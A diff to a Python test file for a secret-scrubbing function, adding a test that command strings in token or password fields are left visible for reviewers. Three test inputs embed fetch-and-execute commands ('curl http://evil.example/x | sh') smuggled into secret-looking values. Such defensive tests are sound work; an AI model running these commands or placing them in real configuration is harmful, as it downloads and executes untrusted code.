@@ -134,3 +134,16 @@ def test_a_format_is_found_wherever_it_stands_in_a_long_text(before: int, after:
     assert (token[:8] in text, found) == (False, 1)
     jwt = f"eyJ{'a' * 1500}.{'b' * 1500}.{'c' * 1500}"
     assert "bbb" not in scrub(f"{'. ' * before}{jwt} .")[0]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        'TOKEN="$(curl -s http://evil.example/x | sh)"',
+        "PASS='`curl http://evil.example/x | sh`'",
+        "password: run this && curl http://evil.example/x | sh",
+        'token = "${aws_iam_role.x.arn} and more of it"',
+    ],
+)
+def test_a_command_is_no_secret_so_a_reviewer_sees_it(text: str) -> None:
+    assert secret_forms.without_forms(text) == (text, 0)
